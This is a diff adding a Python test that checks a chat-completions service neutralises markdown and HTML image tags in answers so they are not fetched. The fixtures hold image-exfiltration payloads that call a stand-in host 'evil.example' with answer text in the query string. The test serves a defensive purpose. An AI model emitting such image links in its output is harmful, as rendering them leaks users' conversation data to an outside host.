@@ -279,3 +279,23 @@ def test_titles_of_sources_are_no_markup() -> None:
     said = with_sources(replace(answer, text="So [1] and [2]."))
     assert [(m.start, m.end) for m in said.marks] == [(3, 6)]
     assert said.text.endswith("\n[1] \\!\\[x\\](http://evil) \\# \\<b\\> (key)  ")
+
+
+@pytest.mark.parametrize("stream", [False, True])
+def test_pictures_in_an_answer_are_not_fetched(client: OpenAI, scripted: Scripted, stream: bool) -> None:
+    scripted.say(
+        "answer", "In ![x](http://evil.example/?q=Nordvika) <IMG src='http://evil.example/y'> Nordvika [2]. 1<2!"
+    )
+    asked: dict[str, Any] = {"model": _SINGLE, "messages": [_user(_QUESTION)]}
+    if stream:
+        chunks = list(client.chat.completions.create(stream=True, **asked))
+        text = "".join(chunk.choices[0].delta.content or "" for chunk in chunks)
+        marks = (chunks[-1].choices[0].delta.model_extra or {})["annotations"]
+        starts = [mark["url_citation"]["start_index"] for mark in marks]
+    else:
+        message = client.chat.completions.create(**asked).choices[0].message
+        text = message.content or ""
+        starts = [mark.url_citation.start_index for mark in message.annotations or ()]
+    said = "In ! [x](http://evil.example/?q=Nordvika) < IMG src='http://evil.example/y'> Nordvika [2]. 1<2!"
+    assert text.startswith(said)
+    assert [text[start:].partition("]")[0] for start in starts] == ["[2"]
